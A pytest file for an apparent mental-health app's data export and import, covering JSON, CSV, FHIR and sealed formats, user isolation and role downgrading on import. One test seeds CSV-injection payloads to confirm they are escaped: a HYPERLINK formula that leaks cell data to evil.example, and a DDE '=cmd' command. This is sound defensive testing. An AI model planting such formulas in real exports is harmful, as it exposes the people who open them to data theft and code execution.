"""Export (JSON, CSV, FHIR, sealed) and import: everything of the person, nothing of anyone else."""

from __future__ import annotations

import io
import json
import re
import uuid
import zipfile
from pathlib import Path

import pytest
from fhir.resources.R4B.bundle import Bundle

from tests.conftest import ApiClient, checkin_body
from tests.support import isolated_env, thaw
from thaw.audit.models import AuditEvent
from thaw.exports.formats import unseal
from thaw.safety.services import save_plan

pytestmark = pytest.mark.django_db


@pytest.fixture
def filled(api_alice: ApiClient, api_bob: ApiClient, alice, bob):
    api_alice.post("/api/v1/checkins", checkin_body(note="Alice's private note, with ünïcode"))
    api_alice.post("/api/v1/checkins", checkin_body(emotions=[{"word": "not sure", "intensity": 0}], body=[], tags=[],
                                                    note=""))
    api_alice.post("/api/v1/assessments", {"instrument": "phq9", "answers": [1] * 8 + [1]})
    api_alice.post("/api/v1/assessments", {"instrument": "who5", "answers": [3, 2, 1, 4, 5]})
    save_plan(alice, {"people_to_ask": "Ana 555-0142"})
    api_bob.post("/api/v1/checkins", checkin_body(note="Bob's note"))
    from datetime import timedelta

    from django.utils import timezone

    started = (timezone.now() - timedelta(minutes=20)).isoformat()
    assert api_alice.post("/api/v1/grounding/sessions", {
        "exercise": "five-senses", "started_at": started, "before_presence": 3, "after_presence": 6,
        "note": "grounding note ü"}).status_code == 201
    assert api_alice.post("/api/v1/substance-use", {
        "substance": "alcohol", "amount": 500, "unit": "ml", "abv": 5, "craving": 6, "motives": ["numb"],
        "note": "substance note ü"}).status_code == 201
    assert api_alice.post("/api/v1/substance-use", {"substance": "other", "custom_name": "kratom"}).status_code == 201
    assert api_alice.post("/api/v1/substance-use/cravings", {
        "substance": "alcohol", "intensity": 7, "helped": ["waited"], "helped_note": "walked it off"}).status_code == 201
    assert api_alice.put("/api/v1/substance-use/goals", {
        "substance": "alcohol", "kind": "weekly_limit", "weekly_limit": 7}).status_code == 200
    assert api_alice.post("/api/v1/grants", {"name": "Sam", "categories": ["summary"]}).status_code == 201
    from thaw.grounding.services import add_affirmation
    from thaw.substances.services import set_preferences

    add_affirmation(alice, "Slow is still moving ü")
    set_preferences(alice, drink_size="uk", show_days_since=False)
    return api_alice


def test_json_export_has_everything_and_no_integer_ids(filled: ApiClient, alice) -> None:
    response = filled.get("/api/v1/export", format="json")
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    document = json.loads(response.content)
    assert document["format"] == "thaw-export" and document["version"] == 1
    assert document["account"]["email"] == "alice@example.org"
    assert len(document["checkins"]) == 2 and len(document["assessments"]) == 2
    assert "Alice's private note, with ünïcode" in [c["note"] for c in document["checkins"]]
    assert document["safety_plan"]["people_to_ask"] == "Ana 555-0142"
    assert document["risk_flags"][0]["reason"].startswith("PHQ-9")
    text = response.content.decode()
    assert "Bob's note" not in text
    assert document["grounding_sessions"][0]["note"] == "grounding note ü"
    assert [u["note"] for u in document["substance_uses"]] == ["substance note ü", ""]
    assert document["substance_uses"][0]["standard_drinks"] is not None
    assert document["substance_cravings"][0]["helped_note"] == "walked it off"
    assert document["substance_goals"][0]["kind"] == "weekly_limit"
    assert document["sharing"][0]["name"] == "Sam"
    assert document["affirmations"][0]["text"] == "Slow is still moving ü"
    assert document["substance_preferences"] == {"drink_size": "uk", "show_days_since": False}
    assert document["homework"] == [] and document["sessions"] == []
    assert not re.search(r'"(id|pk|person|person_id|user_id)": \d', text)
    assert AuditEvent.objects.filter(action="data.exported", person_ref=alice.pk, details__format="json").exists()


def test_csv_export_is_a_zip_of_tables(filled: ApiClient) -> None:
    response = filled.get("/api/v1/export", format="csv")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert {"checkins.csv", "emotions.csv", "assessments.csv", "safety_plan.csv", "risk_flags.csv",
            "account.csv", "grounding_sessions.csv", "substance_uses.csv",
            "substance_cravings.csv"} <= set(archive.namelist())
    assert "kratom" in archive.read("substance_uses.csv").decode()
    assert "ünïcode" in archive.read("checkins.csv").decode()
    assert archive.read("emotions.csv").decode().count("\n") == 1 + 3


def test_fhir_export_is_a_valid_r4_bundle(filled: ApiClient) -> None:
    bundle = json.loads(filled.get("/api/v1/export", format="fhir").content)
    Bundle.model_validate(bundle)
    kinds = [entry["resource"]["resourceType"] for entry in bundle["entry"]]
    assert kinds.count("Observation") == 2 and kinds.count("QuestionnaireResponse") == 2
    assert kinds.count("Questionnaire") == 2 and kinds.count("Patient") == 1
    response = next(e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "QuestionnaireResponse")
    assert response["questionnaire"].startswith("urn:thaw:questionnaire:")
    assert len(response["item"]) in (9, 5)


def test_sealed_export_opens_only_with_the_passphrase(filled: ApiClient) -> None:
    filled.headers["X-Thaw-Export-Passphrase"] = "correct horse battery"
    sealed = filled.get("/api/v1/export", format="json")
    assert sealed["Content-Disposition"].endswith('.sealed"') and b"private note" not in sealed.content
    assert json.loads(unseal(sealed.content, "correct horse battery"))["format"] == "thaw-export"
    with pytest.raises(ValueError):
        unseal(sealed.content, "wrong horse battery")
    filled.headers["X-Thaw-Export-Passphrase"] = "short"
    assert filled.get("/api/v1/export", format="json").status_code == 422


def test_bad_format_and_anonymous(filled: ApiClient, api_anon: ApiClient) -> None:
    bad = filled.get("/api/v1/export", format="xml")
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "format"
    assert api_anon.get("/api/v1/export").status_code == 401


def test_import_round_trips_losslessly_into_a_fresh_install(filled: ApiClient, alice, tmp_path: Path) -> None:
    # How Thaw speaks to her travels too: the profile's choices, and the language last read in. (English
    # chosen: a grounding session's exercise_title is written in the export's language, and the
    # build below runs in English.)
    assert filled.patch("/api/v1/me", {"language": "en", "word_forms": "feminine"}).status_code == 200
    type(alice).objects.filter(pk=alice.pk).update(last_language="es")
    original = json.loads(filled.get("/api/v1/export", format="json").content)
    assert {k: original["account"][k] for k in ("language", "word_forms", "last_language")} == {
        "language": "en", "word_forms": "feminine", "last_language": "es"}
    exported = tmp_path / "export.json"
    exported.write_text(json.dumps(original))
    with isolated_env(tmp_path / "fresh") as env:
        env["THAW_PASSWORD"] = "a calm, long passphrase"
        imported = thaw("import", str(exported), env=env)
        assert imported.returncode == 0, imported.stderr
        again = thaw("import", str(exported), env=env)
        assert again.returncode == 2 and "already exists" in again.stderr and "Nothing was changed" in again.stderr
        script = ("import json; from thaw.accounts.models import User; from thaw.exports.document import build; "
                  "print(json.dumps(build(User.objects.get(email='alice@example.org'))))")
        result = thaw("manage", "shell", "--no-imports", "-c", script, env=env)
        assert result.returncode == 0, result.stderr
        round_trip = json.loads(result.stdout)
    for document in (original, round_trip):
        document.pop("exported_at")
        document.pop("audit")  # the audit trail belongs to the install that recorded it
        document.pop("sharing")  # sharing names people of the old install; an import starts with none
        document.pop("homework")  # as do care teams and their sessions
        document.pop("sessions")
        document.pop("comments")  # and Learn comments and contact requests (the old install's articles and clinic)
        document.pop("contact_requests")
    assert round_trip == original


def test_import_of_a_sealed_file(filled: ApiClient, tmp_path: Path) -> None:
    filled.headers["X-Thaw-Export-Passphrase"] = "correct horse battery"
    sealed = tmp_path / "export.json.sealed"
    sealed.write_bytes(filled.get("/api/v1/export", format="json").content)
    with isolated_env(tmp_path / "fresh") as env:
        env.update(THAW_PASSWORD="a calm, long passphrase", THAW_EXPORT_PASSPHRASE="wrong horse battery")
        wrong = thaw("import", str(sealed), env=env)
        assert wrong.returncode != 0 and "wrong passphrase" in wrong.stderr
        env["THAW_EXPORT_PASSPHRASE"] = "correct horse battery"
        assert thaw("import", str(sealed), env=env).returncode == 0


def test_import_is_always_a_person_with_a_valid_time_zone(filled: ApiClient, tmp_path: Path) -> None:
    document = json.loads(filled.get("/api/v1/export", format="json").content)
    document["account"].update(role="admin", timezone="Mars/Olympus")
    exported = tmp_path / "edited.json"
    exported.write_text(json.dumps(document))
    with isolated_env(tmp_path / "fresh") as env:
        env["THAW_PASSWORD"] = "a calm, long passphrase"
        assert thaw("import", str(exported), env=env).returncode == 0
        who = thaw("manage", "shell", "--no-imports", "-c",
                   "from thaw.accounts.models import User; u = User.objects.get(); print(u.role, u.is_staff, u.timezone)",
                   env=env)
        assert who.stdout.split() == ["person", "False", "UTC"]


def test_exports_carry_the_rule_fields_the_difficulty_and_the_anchor(api_alice: ApiClient, alice) -> None:
    from thaw.assessments.models import Assessment
    from thaw.exports.document import restore

    api_alice.patch("/api/v1/me", {"screening_sex": "female"})
    assert api_alice.post("/api/v1/assessments", {"instrument": "auditc", "answers": [0]}).status_code == 201
    assert api_alice.post("/api/v1/assessments", {"instrument": "phq9", "answers": [1] * 8 + [0],
                                                  "difficulty": 2}).status_code == 201
    assert api_alice.post("/api/v1/assessments", {"instrument": "pcl5", "answers": [2] * 20,
                                                  "worst_event": "the storm ü"}).status_code == 201
    document = json.loads(api_alice.get("/api/v1/export", format="json").content)
    assert document["account"]["screening_sex"] == "female"
    by_kind = {a["instrument"]: a for a in document["assessments"]}
    assert by_kind["auditc"]["answers"] == [0] and by_kind["auditc"]["findings"]["cutoff"] == 3
    assert by_kind["phq9"]["difficulty"] == 2 and by_kind["pcl5"]["worst_event"] == "the storm ü"
    assert by_kind["pcl5"]["findings"]["dsm5_clusters_met"] is True and by_kind["pcl5"]["rules_version"] == 2

    archive = zipfile.ZipFile(io.BytesIO(api_alice.get("/api/v1/export", format="csv").content))
    table = archive.read("assessments.csv").decode()
    assert table.splitlines()[0].endswith("rules_version,above_cutoff,cutoff,dsm5_clusters_met,item_rule_met,"
                                          "difficulty,worst_event")
    assert "the storm ü" in table

    bundle = json.loads(api_alice.get("/api/v1/export", format="fhir").content)
    Bundle.model_validate(bundle)
    resources = {(e["resource"]["resourceType"], e["resource"].get("questionnaire", e["resource"].get("id"))):
                 e["resource"] for e in bundle["entry"]}
    audit = resources[("QuestionnaireResponse", "urn:thaw:questionnaire:auditc")]
    assert [i["linkId"] for i in audit["item"]] == ["1"], "questions 2 and 3 were not asked"
    form = resources[("Questionnaire", "auditc")]
    assert form["item"][1]["enableWhen"] == [{"question": "1", "operator": "!=", "answerCoding": {"code": "0"}}]
    phq = resources[("QuestionnaireResponse", "urn:thaw:questionnaire:phq9")]
    assert phq["item"][-1]["linkId"] == "difficulty" and phq["item"][-1]["answer"][0]["valueCoding"]["code"] == "2"
    pcl = resources[("QuestionnaireResponse", "urn:thaw:questionnaire:pcl5")]
    assert pcl["item"][0] == {"linkId": "worst-event", "text": pcl["item"][0]["text"],
                              "answer": [{"valueString": "the storm ü"}]}

    copy = json.loads(json.dumps(document))
    copy["account"]["email"] = "copy@example.org"
    copy["checkins"] = []
    for a in copy["assessments"]:
        a["id"] = str(uuid.uuid4())  # the same database: new ids
    del copy["assessments"][0]["rules_version"]  # as in an export from before rules versions
    person = restore(copy, "a calm, long passphrase")
    assert person.screening_sex == "female"
    restored = {a.instrument: a for a in Assessment.objects.filter(person=person)}
    assert restored["auditc"].rules_version == 1 and restored["pcl5"].rules_version == 2
    assert restored["pcl5"].worst_event == "the storm ü" and restored["phq9"].difficulty == 2
    assert restored["pcl5"].findings == by_kind["pcl5"]["findings"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(api_alice: ApiClient, alice) -> None:
    import csv

    from thaw.exports.formats import spreadsheet_safe

    formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)"]
    for text in formulas:
        assert api_alice.post("/api/v1/checkins", checkin_body(note=text)).status_code == 201
    save_plan(alice, {"reasons": "=cmd|' /C calc'!A0"})
    archive = zipfile.ZipFile(io.BytesIO(api_alice.get("/api/v1/export", format="csv").content))
    notes = [row["note"] for row in csv.DictReader(io.StringIO(archive.read("checkins.csv").decode()))]
    assert sorted(notes) == sorted("'" + t for t in formulas), "the person's words, behind an apostrophe"
    plan = {row["section"]: row["text"] for row in csv.DictReader(io.StringIO(archive.read("safety_plan.csv").decode()))}
    assert plan["reasons"] == "'=cmd|' /C calc'!A0"
    emotions = list(csv.DictReader(io.StringIO(archive.read("emotions.csv").decode())))
    assert {row["intensity"] for row in emotions} == {"6", "4"}, "numbers are left alone"
    # Notes are stripped before they are stored; a tab or CR can still lead other cells.
    assert spreadsheet_safe("\tTAB=1") == "'\tTAB=1" and spreadsheet_safe("\rCR") == "'\rCR"
    assert spreadsheet_safe("calm - then not") == "calm - then not" and spreadsheet_safe(-3) == -3
    # The JSON export is the person's data exactly as written.
    document = json.loads(api_alice.get("/api/v1/export", format="json").content)
    assert sorted(c["note"] for c in document["checkins"]) == sorted(formulas)


def test_my_comments_and_my_contact_request_are_in_my_export_but_not_anyone_elses(alice, bob, api_alice) -> None:
    from django.test import Client

    from tests.learn_support import seeded, signed_in, staff, started
    from thaw.accounts.erasure import erase
    from thaw.accounts.models import Role
    from thaw.clinic import services as clinic
    from thaw.clinic.models import EnrolmentInvite, Program
    from thaw.exports.document import build, restore
    from thaw.intake import services as intake
    from thaw.intake.models import ContactRequest
    from thaw.learn import services as learn
    from thaw.learn.models import Comment

    seeded()
    slug = "what-is-emotional-numbness"

    def comment(client: Client, name: str, body: str) -> None:
        sent = client.post(f"/learn/{slug}/comment/", {"name": name, "body": body, "started": started("comment")})
        assert sent.status_code == 302

    comment(signed_in(alice), "A.", "=1+1 is how flat it felt ü")
    comment(signed_in(bob), "B.", "Bob's comment")
    comment(Client(), "A.", "Written while signed out")
    mine = Comment.objects.get(author=alice)
    learn.moderate(mine, staff("editor@example.org", Role.EDITOR), "reply", "Thank you for saying it.")

    def contact(name: str, reach_at: str) -> ContactRequest:
        Client().post("/contact/", {"name": name, "reach_by": "email", "reach_at": reach_at, "best_time": "evenings",
                                    "looking_for": "virtual-iop-adults", "region": "Oregon", "consent": "on",
                                    "message": f"{name}'s message", "started": started("contact")})
        [found] = [r for r in ContactRequest.objects.all() if r.name == name]  # names are encrypted
        return found

    team = staff("intake@clinic.example", Role.INTAKE)
    program = Program.objects.get(page__slug="virtual-iop-adults")
    request = contact("Alice", "alice@example.org")
    intake.invite(request, team, program, "alice@example.org")
    clinic.enrol(EnrolmentInvite.objects.get(), alice, ["summary", "assessments", "flags"])
    contact("Not enrolled", "alice@example.org")  # a request never accepted stays the clinic's, then is deleted

    document = json.loads(api_alice.get("/api/v1/export", format="json").content)
    [exported] = document["comments"]
    assert exported["body"] == "=1+1 is how flat it felt ü" and exported["name"] == "A."
    assert exported["article"] == slug and exported["reply"] == "Thank you for saying it."
    assert exported["status"] == "approved" and exported["replied_at"]
    [sent] = document["contact_requests"]
    assert sent["name"] == "Alice" and sent["message"] == "Alice's message" and sent["status"] == "enrolled"
    assert sent["reach_at"] == "alice@example.org" and sent["program"] == program.name
    text = json.dumps(document)
    assert "Bob's comment" not in text and "Written while signed out" not in text
    assert "Not enrolled" not in text and "editor@example.org" not in text and "intake@clinic" not in text

    archive = zipfile.ZipFile(io.BytesIO(api_alice.get("/api/v1/export", format="csv").content))
    comments = archive.read("comments.csv").decode()
    assert "'=1+1 is how flat it felt ü" in comments, "a spreadsheet shows it as text"
    assert "Bob's comment" not in comments and comments.count("\n") == 2
    requests = archive.read("contact_requests.csv").decode()
    assert "Alice's message" in requests and "Not enrolled" not in requests

    # For the person's information only: an import into another install does not recreate them.
    erase(alice)
    restored = restore(document, "a calm, long passphrase")
    again = build(restored)
    assert again["comments"] == [] and again["contact_requests"] == []


def test_the_export_says_how_thaw_speaks_to_the_person_and_an_import_keeps_it(api_alice: ApiClient, alice) -> None:
    from thaw.accounts.models import User
    from thaw.exports.document import build, restore

    blank = json.loads(api_alice.get("/api/v1/export", format="json").content)["account"]
    assert (blank["language"], blank["word_forms"], blank["last_language"]) == (None, None, None)
    alice.language, alice.word_forms, alice.last_language = "", "masculine", "es"  # follows the browser
    alice.save(update_fields=["language", "word_forms", "last_language"])
    document = json.loads(api_alice.get("/api/v1/export", format="json").content)
    assert document["account"]["language"] is None
    assert document["account"]["word_forms"] == "masculine" and document["account"]["last_language"] == "es"
    archive = zipfile.ZipFile(io.BytesIO(api_alice.get("/api/v1/export", format="csv").content))
    rows = archive.read("account.csv").decode().splitlines()
    assert "language," in rows and "word_forms,masculine" in rows and "last_language,es" in rows

    document["account"]["email"] = "copy@example.org"  # the same database: another account
    document["checkins"] = document["assessments"] = []
    person = restore(document, "a calm, long passphrase")
    assert (person.language, person.word_forms, person.last_language) == ("", "masculine", "es")
    assert build(person)["account"] == document["account"], "export → import → export: the same account"

    older = json.loads(json.dumps(document))  # an export from before these fields were exported
    older["account"]["email"] = "older@example.org"
    for key in ("language", "word_forms", "last_language"):
        del older["account"][key]
    person = restore(older, "a calm, long passphrase")
    assert (person.language, person.word_forms, person.last_language) == ("", "", "")
    assert User.objects.get(email="older@example.org").word_forms == ""
